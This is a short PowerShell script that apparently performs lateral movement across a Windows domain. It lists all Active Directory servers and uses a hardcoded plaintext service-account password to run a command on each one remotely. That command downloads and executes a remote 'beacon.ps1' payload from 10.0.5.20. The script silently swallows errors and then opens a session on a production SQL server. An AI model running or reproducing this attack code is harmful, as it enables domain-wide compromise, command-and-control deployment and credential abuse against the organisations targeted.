$targets = Get-ADComputer -Filter 'OperatingSystem -like "*Server*"' | Select-Object -ExpandProperty DNSHostName
$pw = ConvertTo-SecureString 'Spring2024!' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('CORP\svc_sccm', $pw)
foreach ($t in $targets) {
    try {
        Invoke-Command -ComputerName $t -Credential $cred -ScriptBlock {
            IEX (New-Object Net.WebClient).DownloadString('http://10.0.5.20/beacon.ps1')
        } -ErrorAction Stop
    } catch { }
}
Enter-PSSession -ComputerName 'SQL-PROD-03' -Credential $cred
